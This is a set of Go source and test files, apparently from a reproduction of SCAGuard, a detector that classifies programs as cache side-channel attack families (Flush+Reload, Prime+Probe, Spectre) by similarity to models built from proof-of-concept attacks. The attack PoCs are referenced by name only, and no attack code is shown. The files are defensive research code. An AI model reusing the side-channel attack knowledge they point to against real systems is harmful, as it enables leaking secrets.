	if tel.Counter(telemetry.ScanTargets) != scans {
		t.Error("warm post-Add lookup still scanned")
	}
}

// TestVerdictCacheCollapsesConcurrentClassifies: many goroutines
// classifying the same cold target cost exactly one repository scan —
// either collapsed onto the in-flight compute or served from the entry
// it stored.
func TestVerdictCacheCollapsesConcurrentClassifies(t *testing.T) {
	const n = 8
	r := repo(t)
	tel := telemetry.NewCollector()
	d := NewDetector(r)
	d.ResultCache = 8
	d.Telemetry = tel
	target := r.Entries[0].BBS
	want := NewDetector(r).ClassifyBBS(target)

	var wg sync.WaitGroup
	start := make(chan struct{})
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			<-start
			got, err := d.ClassifyBBSCtx(context.Background(), target)
			if err != nil {
				t.Errorf("concurrent classify: %v", err)
				return
			}
			if !reflect.DeepEqual(got, want) {
				t.Error("concurrent cached verdict diverged")
			}
		}()
	}
	close(start)
	wg.Wait()
	if scans := tel.Counter(telemetry.ScanTargets); scans != 1 {
		t.Errorf("scan_targets = %d for %d identical classifications, want 1", scans, n)
	}
	hits := tel.Counter(telemetry.VCacheHits)
	collapsed := tel.Counter(telemetry.VCacheCollapsed)
	if hits+collapsed != n-1 {
		t.Errorf("hits=%d collapsed=%d, want them to cover the %d non-leading calls", hits, collapsed, n-1)
	}
}

// TestVerdictCachePartialNeverCached: a degraded sharded scan (two of
// three shards dead) returns a usable partial verdict but must not
// poison the cache — once the shards recover, the same target gets a
// full verdict, not a replayed partial one. The degradation itself is
// counted exactly once per scan, no matter how many shards died.
func TestVerdictCachePartialNeverCached(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	r := repo(t)
	tel := telemetry.NewCollector()
	d := NewDetector(r)
	d.Shards = 3
	d.ResultCache = 8
	d.Telemetry = tel
	target := r.Entries[0].BBS

	full, err := d.ClassifyBBSCtx(context.Background(), target)
	if err != nil {
		t.Fatal(err)
	}

	// Fresh detector state for the degraded pass: same repository, cold
	// cache, two of its three shards failing.
	d2 := NewDetector(r)
	d2.Shards = 3
	d2.ResultCache = 8
	d2.Telemetry = tel
	boom := errors.New("shard down")
	faultinject.Enable(faultinject.ShardScan, faultinject.Chain(
		faultinject.Match("1", faultinject.Error(boom)),
		faultinject.Match("2", faultinject.Error(boom)),
	))

	degraded := tel.Counter(telemetry.ShardDegradedScans)
	partial, err := d2.ClassifyBBSCtx(context.Background(), target)
	var pe *shard.PartialError
	if !errors.As(err, &pe) {
		t.Fatalf("err = %v, want *shard.PartialError", err)
	}
	if len(pe.Failed) != 2 {
		t.Fatalf("%d failed shards reported, want 2", len(pe.Failed))
	}
	if got := tel.Counter(telemetry.ShardDegradedScans) - degraded; got != 1 {
		t.Fatalf("one degraded scan with two dead shards bumped shard_degraded_scans by %d, want exactly 1", got)
	}
	if len(partial.Matches) == 0 || len(partial.Matches) >= len(full.Matches) {
		t.Fatalf("partial verdict has %d matches (full has %d)", len(partial.Matches), len(full.Matches))
	}

	// Recovery: the shards come back; the cache must recompute, not
	// replay the partial verdict it was forbidden to store.
	faultinject.Reset()
	recovered, err := d2.ClassifyBBSCtx(context.Background(), target)
	if err != nil {
		t.Fatalf("post-recovery classify: %v", err)
	}
	if !reflect.DeepEqual(recovered, full) {
		t.Fatalf("post-recovery verdict diverged from the full one — partial result was cached:\n got %+v\nwant %+v", recovered, full)
	}
}

// TestVerdictCacheLookupFaultDegradesGracefully: with the vcache.lookup
// failpoint armed, every classification bypasses the cache and scans —
// verdicts stay correct, nothing breaks.
func TestVerdictCacheLookupFaultDegradesGracefully(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	r := repo(t)
	tel := telemetry.NewCollector()
	d := NewDetector(r)
	d.ResultCache = 8
	d.Telemetry = tel
	target := r.Entries[0].BBS
	want := NewDetector(r).ClassifyBBS(target)

	faultinject.Enable(faultinject.VCacheLookup, faultinject.Error(errors.New("cache unavailable")))
	for i := 0; i < 2; i++ {
		got, err := d.ClassifyBBSCtx(context.Background(), target)
		if err != nil {
			t.Fatalf("classify %d under lookup fault: %v", i, err)
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("classify %d under lookup fault diverged", i)
		}
	}
	if scans := tel.Counter(telemetry.ScanTargets); scans != 2 {
		t.Errorf("scan_targets = %d, want 2 (every bypassed lookup scans)", scans)
	}
	if hits := tel.Counter(telemetry.VCacheHits); hits != 0 {
		t.Errorf("hits = %d under a permanent lookup fault, want 0", hits)
	}
}

// BenchmarkVerdictCache quantifies the point of the cache: verdict/miss
// is a full repository scan per classification, verdict/hit is the
// same target answered from memory. The acceptance bar is a ≥5×
// speedup on the warm path (`make bench-vcache`).
func BenchmarkVerdictCache(b *testing.B) {
	p := attacks.DefaultParams()
	pocs := []attacks.PoC{
		attacks.FlushReloadIAIK(p),
		attacks.PrimeProbeIAIK(p),
		attacks.SpectreFRIdea(p),
		attacks.SpectrePPTrippel(p),
	}
	r, err := BuildRepository(pocs, model.DefaultConfig())
	if err != nil {
		b.Fatal(err)
	}
	// Grow the repository to a deployment-sized model count (the paper's
	// evaluation carries many variants per family): the miss path scales
	// with repository size, the hit path must not.
	for len(r.Entries) < 64 {
		src := r.Entries[len(r.Entries)%len(pocs)]
		r.Add(fmt.Sprintf("%s-v%d", src.Name, len(r.Entries)), src.Family, src.BBS)
	}
	target := r.Entries[0].BBS

	b.Run("miss", func(b *testing.B) {
		d := NewDetector(r)
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if res := d.ClassifyBBS(target); res.Predicted == "" {
				b.Fatal("empty prediction")
			}
		}
	})
	b.Run("hit", func(b *testing.B) {
		d := NewDetector(r)
		d.ResultCache = 8
		d.ClassifyBBS(target) // warm the one entry
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if res := d.ClassifyBBS(target); res.Predicted == "" {
				b.Fatal("empty prediction")
			}
		}
	})
}
