package detect

import (
	"bytes"
	"testing"

	"repro/internal/attacks"
	"repro/internal/model"
	"repro/internal/scan"
	"repro/internal/telemetry"
)

// stressRepo builds a small derived-seed variant corpus once per test
// binary — large enough that the index forms real clusters (variants of
// one PoC huddle together), small enough to keep `go test` quick.
var stressRepoCache *Repository

func stressRepo(t *testing.T) *Repository {
	t.Helper()
	if stressRepoCache == nil {
		r, err := BuildVariantRepository(CorpusConfig{PerFamily: 12, Seed: 5})
		if err != nil {
			t.Fatal(err)
		}
		stressRepoCache = r
	}
	return stressRepoCache
}

// stressTargets returns a few classification targets: in-corpus
// variants (exact hits), a fresh PoC (family hit) and a benign-ish
// probe (whatever the repo scores it as — the point is agreement, not
// the verdict).
func stressTargets(t *testing.T) []*model.CSTBBS {
	t.Helper()
	var out []*model.CSTBBS
	for _, e := range stressRepo(t).Entries[:2] {
		out = append(out, e.BBS)
	}
	p := attacks.DefaultParams()
	for _, poc := range []attacks.PoC{attacks.FlushReloadNepoche(p), attacks.PrimeProbeIAIK(p)} {
		m, err := model.Build(poc.Program, poc.Victim, model.DefaultConfig())
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, m.BBS)
	}
	return out
}

// TestDetectorIndexedDifferential is the whole-detector bit-identity
// check: for every shard count the deployment supports, a detector in
// indexed mode must agree with the plain exact detector on the verdict,
// the best match's name and its bit-exact score — cold and warm through
// the verdict cache — and the best match must never be pruned.
func TestDetectorIndexedDifferential(t *testing.T) {
	repo := stressRepo(t)
	targets := stressTargets(t)

	ref := NewDetector(repo)
	for _, shards := range []int{1, 2, 7} {
		det := NewDetector(repo)
		det.Scan = scan.Config{Prune: true, Index: true}
		det.Shards = shards
		det.ResultCache = 64
		det.Telemetry = telemetry.NewCollector()
		for pass := 0; pass < 2; pass++ { // cold, then warm via vcache
			for ti, bbs := range targets {
				want := ref.ClassifyBBS(bbs)
				got := det.ClassifyBBS(bbs)
				if got.Predicted != want.Predicted {
					t.Errorf("shards=%d pass=%d target=%d: predicted %s, want %s", shards, pass, ti, got.Predicted, want.Predicted)
				}
				if got.Best.Name != want.Best.Name || got.Best.Score != want.Best.Score {
					t.Errorf("shards=%d pass=%d target=%d: best %s %.17g, want %s %.17g",
						shards, pass, ti, got.Best.Name, got.Best.Score, want.Best.Name, want.Best.Score)
				}
				if got.Best.Pruned {
					t.Errorf("shards=%d pass=%d target=%d: best match reported pruned", shards, pass, ti)
				}
			}
		}
		snap := det.Telemetry.Snapshot()
		if snap.Counters["index_rebuilds"] == 0 {
			t.Errorf("shards=%d: indexed detector never built an index", shards)
		}
		det.Close()
	}
}

// TestDetectorIndexExtend covers the incremental path: growing the
// repository through Add must extend the previous index (one extra
// index_rebuilds tick, not a from-scratch build being the only option)
// and keep verdicts bit-identical to a fresh exact detector over the
// grown repository.
func TestDetectorIndexExtend(t *testing.T) {
	base, err := BuildVariantRepository(CorpusConfig{PerFamily: 10, Seed: 11})
	if err != nil {
		t.Fatal(err)
	}
	extra, err := BuildVariantRepository(CorpusConfig{PerFamily: 3, Seed: 23})
	if err != nil {
		t.Fatal(err)
	}

	det := NewDetector(base)
	det.Scan = scan.Config{Prune: true, Index: true}
	det.Telemetry = telemetry.NewCollector()
	defer det.Close()

	target := base.Entries[1].BBS
	_ = det.ClassifyBBS(target) // cold: full build
	if n := det.Telemetry.Snapshot().Counters["index_rebuilds"]; n != 1 {
		t.Fatalf("after first scan: index_rebuilds = %d, want 1", n)
	}

	for _, e := range extra.Entries {
		base.Add(e.Name, e.Family, e.BBS)
	}
	got := det.ClassifyBBS(extra.Entries[0].BBS)
	snap := det.Telemetry.Snapshot()
	if n := snap.Counters["index_rebuilds"]; n != 2 {
		t.Fatalf("after growth: index_rebuilds = %d, want 2 (one extend)", n)
	}
	// The gauge proves the rebuild was an extension of the previous
	// index, not a from-scratch build (Build leaves Extended at 0).
	if n := snap.Gauges["index"]["extended"]; n != uint64(len(extra.Entries)) {
		t.Fatalf("index gauge extended = %d, want %d appended entries", n, len(extra.Entries))
	}

	ref := NewDetector(base)
	want := ref.ClassifyBBS(extra.Entries[0].BBS)
	if got.Predicted != want.Predicted || got.Best.Name != want.Best.Name || got.Best.Score != want.Best.Score {
		t.Fatalf("post-growth indexed verdict %s/%s/%.17g, exact %s/%s/%.17g",
			got.Predicted, got.Best.Name, got.Best.Score, want.Predicted, want.Best.Name, want.Best.Score)
	}
}

// TestVariantRepositoryDeterministic pins the corpus reproducibility
// guarantee end to end: two independent builds of the same CorpusConfig
// serialize to byte-identical repository files, and a different seed
// does not.
func TestVariantRepositoryDeterministic(t *testing.T) {
	save := func(cfg CorpusConfig) []byte {
		t.Helper()
		r, err := BuildVariantRepository(cfg)
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		if err := r.Save(&b); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	cfg := CorpusConfig{PerFamily: 6, Seed: 42}
	a, b := save(cfg), save(cfg)
	if !bytes.Equal(a, b) {
		t.Fatal("same CorpusConfig produced different repository bytes")
	}
	if c := save(CorpusConfig{PerFamily: 6, Seed: 43}); bytes.Equal(a, c) {
		t.Fatal("different seeds produced identical corpora")
	}
	if o := save(CorpusConfig{PerFamily: 6, Seed: 42, Obfuscate: true}); bytes.Equal(a, o) {
		t.Fatal("obfuscation profile produced the light-profile corpus")
	}
}
