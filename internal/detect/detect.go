// Package detect implements SCAGuard's deployment layer
// (Section III-B3): a repository of attack behavior models built from
// the PoCs of known attacks, and a detector that models a target
// program, compares it against every repository entry with the CST-BBS
// similarity, and classifies it as the family of the best match — or as
// benign when every score falls below the threshold (45% by default,
// the optimum of Fig. 5).
package detect

import (
	"fmt"
	"sort"

	"repro/internal/attacks"
	"repro/internal/isa"
	"repro/internal/model"
	"repro/internal/similarity"
)

// DefaultThreshold is the paper's operating point (the middle of the
// 30%-60% plateau of Fig. 5).
const DefaultThreshold = 0.45

// MinModelLen is the smallest CST-BBS that can represent an attack: a
// cache side-channel attack needs at least preparation, measurement and
// decision behavior, so its model always has several cache-active
// blocks. Targets with shorter models are benign by construction;
// without the gate a two-block benign model (e.g. one hot crypto table
// loop) could align its few blocks cheaply onto an attack model. A
// hand-written minimal Flush+Reload flattens to four entries, so the
// gate sits at three.
const MinModelLen = 3

// Entry is one attack behavior model in the repository.
type Entry struct {
	Name   string
	Family attacks.Family
	BBS    *model.CSTBBS
}

// Repository holds the known-attack models.
type Repository struct {
	Entries []Entry
}

// Add inserts a model.
func (r *Repository) Add(name string, family attacks.Family, bbs *model.CSTBBS) {
	r.Entries = append(r.Entries, Entry{Name: name, Family: family, BBS: bbs})
}

// Families returns the distinct families represented, sorted.
func (r *Repository) Families() []attacks.Family {
	seen := make(map[attacks.Family]bool)
	for _, e := range r.Entries {
		seen[e.Family] = true
	}
	out := make([]attacks.Family, 0, len(seen))
	for f := range seen {
		out = append(out, f)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// BuildRepository models each PoC (with its victim when it has one) and
// stores the resulting CST-BBSes. This is the "one PoC per attack type"
// modeling step the paper's evaluation uses.
func BuildRepository(pocs []attacks.PoC, cfg model.Config) (*Repository, error) {
	r := &Repository{}
	for _, poc := range pocs {
		m, err := model.Build(poc.Program, poc.Victim, cfg)
		if err != nil {
			return nil, fmt.Errorf("detect: modeling %s: %w", poc.Name, err)
		}
		r.Add(poc.Name, poc.Family, m.BBS)
	}
	return r, nil
}

// Match is one repository comparison result.
type Match struct {
	Name   string
	Family attacks.Family
	Score  float64
}

// Result is a classification outcome.
type Result struct {
	// Predicted is the inferred family, or attacks.FamilyBenign when no
	// score reached the threshold.
	Predicted attacks.Family
	// Best is the highest-scoring repository entry.
	Best Match
	// Matches lists every comparison, best first.
	Matches []Match
}

// Detector classifies target programs against a repository.
type Detector struct {
	Repo      *Repository
	Threshold float64
	ModelCfg  model.Config
	SimOpts   similarity.Options
	// RequireTimer gates classification on the target having read a
	// timer at least once: a cache side-channel attack measures timing
	// differences by definition, so a timer-free program is benign
	// regardless of its cache-access shape. Disable for ablations.
	RequireTimer bool
}

// NewDetector returns a detector with the paper's defaults.
func NewDetector(repo *Repository) *Detector {
	return &Detector{
		Repo:         repo,
		Threshold:    DefaultThreshold,
		ModelCfg:     model.DefaultConfig(),
		SimOpts:      similarity.DefaultOptions(),
		RequireTimer: true,
	}
}

// ClassifyBBS scores a pre-built behavior model against the repository.
func (d *Detector) ClassifyBBS(bbs *model.CSTBBS) Result {
	res := Result{Predicted: attacks.FamilyBenign}
	if bbs.Len() < MinModelLen {
		return res
	}
	if d.RequireTimer && bbs.TimerReads == 0 {
		return res
	}
	for _, e := range d.Repo.Entries {
		s := similarity.Score(bbs, e.BBS, d.SimOpts)
		res.Matches = append(res.Matches, Match{Name: e.Name, Family: e.Family, Score: s})
	}
	sort.SliceStable(res.Matches, func(i, j int) bool {
		return res.Matches[i].Score > res.Matches[j].Score
	})
	if len(res.Matches) > 0 {
		res.Best = res.Matches[0]
		if res.Best.Score >= d.Threshold {
			res.Predicted = res.Best.Family
		}
	}
	return res
}

// Classify models the target program (optionally alongside a victim
// workload) and scores it against the repository.
func (d *Detector) Classify(prog *isa.Program, victim *isa.Program) (Result, *model.Model, error) {
	m, err := model.Build(prog, victim, d.ModelCfg)
	if err != nil {
		return Result{}, nil, fmt.Errorf("detect: modeling target %s: %w", progName(prog), err)
	}
	return d.ClassifyBBS(m.BBS), m, nil
}

func progName(p *isa.Program) string {
	if p == nil {
		return "<nil>"
	}
	return p.Name
}
