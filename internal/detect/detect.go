// Package detect implements SCAGuard's deployment layer
// (Section III-B3): a repository of attack behavior models built from
// the PoCs of known attacks, and a detector that models a target
// program, compares it against every repository entry with the CST-BBS
// similarity, and classifies it as the family of the best match — or as
// benign when every score falls below the threshold (45% by default,
// the optimum of Fig. 5).
//
// Classification runs on the repository scan engine (internal/scan):
// per-entry scoring fans out across a worker pool and the Levenshtein
// term is memoized in a cache owned by the Repository, so every
// detector sharing a repository shares the warm cache. The default
// configuration is exact — bit-identical to the serial reference loop —
// while Detector.Scan.Prune opts into early-abandoning scans that keep
// the best match (and hence the classification) exact but may skip
// provably losing entries. See docs/PERFORMANCE.md.
package detect

import (
	"fmt"
	"sort"
	"sync"

	"repro/internal/attacks"
	"repro/internal/isa"
	"repro/internal/model"
	"repro/internal/scan"
	"repro/internal/similarity"
	"repro/internal/telemetry"
)

// DefaultThreshold is the paper's operating point (the middle of the
// 30%-60% plateau of Fig. 5).
const DefaultThreshold = 0.45

// MinModelLen is the smallest CST-BBS that can represent an attack: a
// cache side-channel attack needs at least preparation, measurement and
// decision behavior, so its model always has several cache-active
// blocks. Targets with shorter models are benign by construction;
// without the gate a two-block benign model (e.g. one hot crypto table
// loop) could align its few blocks cheaply onto an attack model. A
// hand-written minimal Flush+Reload flattens to four entries, so the
// gate sits at three.
const MinModelLen = 3

// Entry is one attack behavior model in the repository.
type Entry struct {
	Name   string
	Family attacks.Family
	BBS    *model.CSTBBS
}

// Repository holds the known-attack models. The zero value is an empty
// repository ready for use.
//
// A Repository is safe for concurrent use as long as all mutation goes
// through Add: Add may race freely with classification (detectors scan
// a snapshot and pick up additions on their next call). The exported
// Entries field remains for read access by reporting code; appending to
// it directly bypasses the lock and the change tracking and must not be
// done concurrently with anything else.
type Repository struct {
	mu      sync.RWMutex
	version uint64
	cache   *scan.DistCache

	Entries []Entry
}

// Add inserts a model.
func (r *Repository) Add(name string, family attacks.Family, bbs *model.CSTBBS) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.Entries = append(r.Entries, Entry{Name: name, Family: family, BBS: bbs})
	r.version++
}

// Len returns the number of models.
func (r *Repository) Len() int {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return len(r.Entries)
}

// snapshot returns a stable copy of the entries plus the version that
// produced it, so detectors can scan while Add keeps inserting.
func (r *Repository) snapshot() ([]Entry, uint64) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return append([]Entry(nil), r.Entries...), r.version
}

// distCache returns the repository's shared Levenshtein memo, creating
// it on first use. The cache stores unweighted D_IS values only, so one
// cache serves every detector and similarity configuration built over
// this repository.
func (r *Repository) distCache() *scan.DistCache {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.cache == nil {
		r.cache = scan.NewDistCache()
	}
	return r.cache
}

// Families returns the distinct families represented in the
// repository. The result is guaranteed deterministic: each family
// appears exactly once regardless of how many entries carry it or in
// what order they were added, and the slice is sorted in ascending
// lexicographic order of the family label. Callers may rely on this
// ordering (reports, golden files, cross-process comparisons).
func (r *Repository) Families() []attacks.Family {
	r.mu.RLock()
	defer r.mu.RUnlock()
	seen := make(map[attacks.Family]bool)
	for _, e := range r.Entries {
		seen[e.Family] = true
	}
	out := make([]attacks.Family, 0, len(seen))
	for f := range seen {
		out = append(out, f)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// BuildRepository models each PoC (with its victim when it has one) and
// stores the resulting CST-BBSes. This is the "one PoC per attack type"
// modeling step the paper's evaluation uses.
func BuildRepository(pocs []attacks.PoC, cfg model.Config) (*Repository, error) {
	r := &Repository{}
	for _, poc := range pocs {
		m, err := model.Build(poc.Program, poc.Victim, cfg)
		if err != nil {
			return nil, fmt.Errorf("detect: modeling %s: %w", poc.Name, err)
		}
		r.Add(poc.Name, poc.Family, m.BBS)
	}
	return r, nil
}

// Match is one repository comparison result.
type Match struct {
	Name   string
	Family attacks.Family
	Score  float64
	// Pruned marks entries skipped by an early-abandoning scan
	// (Detector.Scan.Prune); their Score is an upper bound on the true
	// score. The best match is never pruned.
	Pruned bool
}

// Result is a classification outcome.
type Result struct {
	// Predicted is the inferred family, or attacks.FamilyBenign when no
	// score reached the threshold.
	Predicted attacks.Family
	// Best is the highest-scoring repository entry.
	Best Match
	// Matches lists every comparison, best first.
	Matches []Match
}

// Detector classifies target programs against a repository.
//
// A Detector is safe for concurrent use: Classify and ClassifyBBS may
// be called from many goroutines, and the repository may keep growing
// through Add while they run (each call scans a snapshot). Mutating the
// configuration fields concurrently with classification is not
// supported.
type Detector struct {
	Repo      *Repository
	Threshold float64
	ModelCfg  model.Config
	SimOpts   similarity.Options
	// RequireTimer gates classification on the target having read a
	// timer at least once: a cache side-channel attack measures timing
	// differences by definition, so a timer-free program is benign
	// regardless of its cache-access shape. Disable for ablations.
	RequireTimer bool
	// Scan tunes the repository scan engine (worker count, early
	// abandoning). Scan.Sim, Scan.Cache and Scan.Telemetry are ignored:
	// the engine always uses SimOpts, the repository's shared distance
	// cache and the detector's Telemetry collector.
	Scan scan.Config
	// Telemetry optionally collects runtime counters and stage
	// latencies across the whole detection pipeline: scan pruning
	// outcomes, engine rebuilds, model-vs-scan wall time and the
	// repository DistCache hit rates (registered as the "distcache"
	// gauge source). nil disables instrumentation at zero cost. Like the
	// other configuration fields, set it before the first
	// classification.
	Telemetry *telemetry.Collector

	// engine cache, rebuilt when the repository or the configuration
	// it was built under changes.
	mu         sync.Mutex
	eng        *scan.Engine
	engEntries []Entry
	engVer     uint64
	engKey     engineKey
}

// engineKey captures the configuration an engine was built under.
type engineKey struct {
	workers int
	prune   bool
	sim     similarity.Options
	tel     *telemetry.Collector
}

func (d *Detector) key() engineKey {
	return engineKey{workers: d.Scan.Workers, prune: d.Scan.Prune, sim: d.SimOpts, tel: d.Telemetry}
}

// engine returns a scan engine over the current repository snapshot,
// rebuilding it only when the repository version or the detector
// configuration has changed since the last call. The returned entry
// slice is the snapshot the engine indexes into.
func (d *Detector) engine() (*scan.Engine, []Entry) {
	d.mu.Lock()
	defer d.mu.Unlock()
	entries, ver := d.Repo.snapshot()
	k := d.key()
	if d.eng != nil && d.engVer == ver && d.engKey == k && len(d.engEntries) == len(entries) {
		d.Telemetry.Inc(telemetry.DetectEngineReuses)
		return d.eng, d.engEntries
	}
	d.Telemetry.Inc(telemetry.DetectEngineRebuilds)
	models := make([]*model.CSTBBS, len(entries))
	for i, e := range entries {
		models[i] = e.BBS
	}
	cfg := d.Scan
	cfg.Sim = d.SimOpts
	cfg.Cache = d.Repo.distCache()
	cfg.Telemetry = d.Telemetry
	// The repository cache outlives any one engine, so registering its
	// gauges on every rebuild is idempotent by name.
	d.Telemetry.RegisterGauges("distcache", cfg.Cache.TelemetryGauges)
	repo := d.Repo
	d.Telemetry.RegisterGauges("repository", func() map[string]uint64 {
		return map[string]uint64{"entries": uint64(repo.Len())}
	})
	d.eng = scan.New(models, cfg)
	d.engEntries, d.engVer, d.engKey = entries, ver, k
	return d.eng, d.engEntries
}

// NewDetector returns a detector with the paper's defaults.
func NewDetector(repo *Repository) *Detector {
	return &Detector{
		Repo:         repo,
		Threshold:    DefaultThreshold,
		ModelCfg:     model.DefaultConfig(),
		SimOpts:      similarity.DefaultOptions(),
		RequireTimer: true,
	}
}

// benignResult is the explicit outcome for targets that never reach the
// similarity comparison: gated-out models and scans of an empty
// repository. Best names the benign family directly so callers reading
// Best.Family without checking Matches still get a truthful answer.
func benignResult() Result {
	return Result{
		Predicted: attacks.FamilyBenign,
		Best:      Match{Family: attacks.FamilyBenign},
	}
}

// gated reports whether the target is benign by construction, before
// any repository comparison.
func (d *Detector) gated(bbs *model.CSTBBS) bool {
	if bbs.Len() < MinModelLen {
		return true
	}
	return d.RequireTimer && bbs.TimerReads == 0
}

// assemble turns the positional scan matches into a Result: named,
// sorted best-first (stable, so equal scores keep repository order) and
// thresholded.
func (d *Detector) assemble(entries []Entry, ms []scan.Match) Result {
	res := benignResult()
	if len(ms) == 0 {
		return res
	}
	res.Matches = make([]Match, len(ms))
	for i, m := range ms {
		e := entries[m.Index]
		res.Matches[i] = Match{Name: e.Name, Family: e.Family, Score: m.Score, Pruned: m.Pruned}
	}
	sort.SliceStable(res.Matches, func(i, j int) bool {
		return res.Matches[i].Score > res.Matches[j].Score
	})
	res.Best = res.Matches[0]
	if res.Best.Score >= d.Threshold {
		res.Predicted = res.Best.Family
	}
	return res
}

// ClassifyBBS scores a pre-built behavior model against the repository.
// An empty repository, like a gated-out target, yields an explicitly
// benign result with no matches.
func (d *Detector) ClassifyBBS(bbs *model.CSTBBS) Result {
	d.Telemetry.Inc(telemetry.DetectClassifications)
	if d.gated(bbs) {
		d.Telemetry.Inc(telemetry.DetectGated)
		return benignResult()
	}
	eng, entries := d.engine()
	return d.assemble(entries, eng.Scan(bbs))
}

// ClassifyBatch classifies many pre-built behavior models in one scan
// pass, sharing the worker pool and warm distance cache across all of
// them. results[i] corresponds to targets[i]; gated-out targets get the
// same explicit benign result ClassifyBBS would give them, without
// occupying the scan.
func (d *Detector) ClassifyBatch(targets []*model.CSTBBS) []Result {
	d.Telemetry.Inc(telemetry.DetectBatches)
	d.Telemetry.Add(telemetry.DetectClassifications, uint64(len(targets)))
	results := make([]Result, len(targets))
	live := make([]*model.CSTBBS, 0, len(targets))
	liveIdx := make([]int, 0, len(targets))
	for i, bbs := range targets {
		if d.gated(bbs) {
			d.Telemetry.Inc(telemetry.DetectGated)
			results[i] = benignResult()
			continue
		}
		live = append(live, bbs)
		liveIdx = append(liveIdx, i)
	}
	if len(live) == 0 {
		return results
	}
	eng, entries := d.engine()
	batch := eng.ScanBatch(live)
	for k, ms := range batch {
		results[liveIdx[k]] = d.assemble(entries, ms)
	}
	return results
}

// Classify models the target program (optionally alongside a victim
// workload) and scores it against the repository. When a Telemetry
// collector is attached, the modeling stage inherits it, so one run
// yields both the model-side and scan-side wall times.
func (d *Detector) Classify(prog *isa.Program, victim *isa.Program) (Result, *model.Model, error) {
	cfg := d.ModelCfg
	if cfg.Telemetry == nil {
		cfg.Telemetry = d.Telemetry
	}
	m, err := model.Build(prog, victim, cfg)
	if err != nil {
		return Result{}, nil, fmt.Errorf("detect: modeling target %s: %w", progName(prog), err)
	}
	return d.ClassifyBBS(m.BBS), m, nil
}

func progName(p *isa.Program) string {
	if p == nil {
		return "<nil>"
	}
	return p.Name
}
