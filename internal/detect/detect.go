// Package detect implements SCAGuard's deployment layer
// (Section III-B3): a repository of attack behavior models built from
// the PoCs of known attacks, and a detector that models a target
// program, compares it against every repository entry with the CST-BBS
// similarity, and classifies it as the family of the best match — or as
// benign when every score falls below the threshold (45% by default,
// the optimum of Fig. 5).
//
// Classification runs on the repository scan engine (internal/scan):
// per-entry scoring fans out across a worker pool and the Levenshtein
// term is memoized in a cache owned by the Repository, so every
// detector sharing a repository shares the warm cache. The default
// configuration is exact — bit-identical to the serial reference loop —
// while Detector.Scan.Prune opts into early-abandoning scans that keep
// the best match (and hence the classification) exact but may skip
// provably losing entries. See docs/PERFORMANCE.md.
//
// A repository too large (or too hot) for one machine can be scanned
// through the scatter–gather layer instead: Detector.Shards partitions
// it across in-process shard engines, Detector.ShardAddrs across
// remote `scaguard shard-serve` processes, behind the exact same
// classification API — exact-mode results stay bit-identical, and
// failing shards degrade classification to partial results rather than
// blocking it. See docs/SHARDING.md.
//
// Repeated targets can skip the scan entirely: Detector.ResultCache
// layers the verdict result cache (internal/vcache) over whichever
// scan backend is configured, memoizing whole scan outcomes keyed by
// target content, repository version and scan semantics — invalidated
// automatically by Repository.Add's version bump, never polluted by
// partial results. See docs/PERFORMANCE.md.
package detect

import (
	"context"
	"errors"
	"fmt"
	"math"
	"sort"
	"strings"
	"sync"
	"time"

	"repro/internal/attacks"
	"repro/internal/breaker"
	"repro/internal/isa"
	"repro/internal/model"
	"repro/internal/panicsafe"
	"repro/internal/retry"
	"repro/internal/scan"
	"repro/internal/shard"
	"repro/internal/similarity"
	"repro/internal/telemetry"
	"repro/internal/vcache"
)

// DefaultThreshold is the paper's operating point (the middle of the
// 30%-60% plateau of Fig. 5).
const DefaultThreshold = 0.45

// MinModelLen is the smallest CST-BBS that can represent an attack: a
// cache side-channel attack needs at least preparation, measurement and
// decision behavior, so its model always has several cache-active
// blocks. Targets with shorter models are benign by construction;
// without the gate a two-block benign model (e.g. one hot crypto table
// loop) could align its few blocks cheaply onto an attack model. A
// hand-written minimal Flush+Reload flattens to four entries, so the
// gate sits at three.
const MinModelLen = 3

// Entry is one attack behavior model in the repository.
type Entry struct {
	Name   string
	Family attacks.Family
	BBS    *model.CSTBBS
}

// Repository holds the known-attack models. The zero value is an empty
// repository ready for use.
//
// A Repository is safe for concurrent use as long as all mutation goes
// through Add: Add may race freely with classification (detectors scan
// a snapshot and pick up additions on their next call). The exported
// Entries field remains for read access by reporting code; appending to
// it directly bypasses the lock and the change tracking and must not be
// done concurrently with anything else.
type Repository struct {
	mu      sync.RWMutex
	version uint64
	cache   *scan.DistCache

	Entries []Entry
}

// Add inserts a model.
func (r *Repository) Add(name string, family attacks.Family, bbs *model.CSTBBS) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.Entries = append(r.Entries, Entry{Name: name, Family: family, BBS: bbs})
	r.version++
}

// Len returns the number of models.
func (r *Repository) Len() int {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return len(r.Entries)
}

// Version returns the repository's change counter: it starts at zero
// and increments on every Add or Replace. Detectors key their cached
// scan engines and verdict-cache entries on it, so observing the same
// version twice means the contents have not changed in between.
func (r *Repository) Version() uint64 {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return r.version
}

// Replace atomically swaps the repository's entire contents for
// entries, bumping the version exactly like Add does. It is the
// hot-reload primitive: classifications already scanning keep their
// snapshot of the old contents, the next classification rebuilds its
// engine over the new ones, and version-keyed verdict-cache entries
// (Detector.ResultCache) become unreachable without an explicit flush.
// Replace may race freely with classification, Add and other Replaces.
func (r *Repository) Replace(entries []Entry) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.Entries = append([]Entry(nil), entries...)
	r.version++
}

// snapshot returns a stable copy of the entries plus the version that
// produced it, so detectors can scan while Add keeps inserting.
func (r *Repository) snapshot() ([]Entry, uint64) {
	r.mu.RLock()
	defer r.mu.RUnlock()
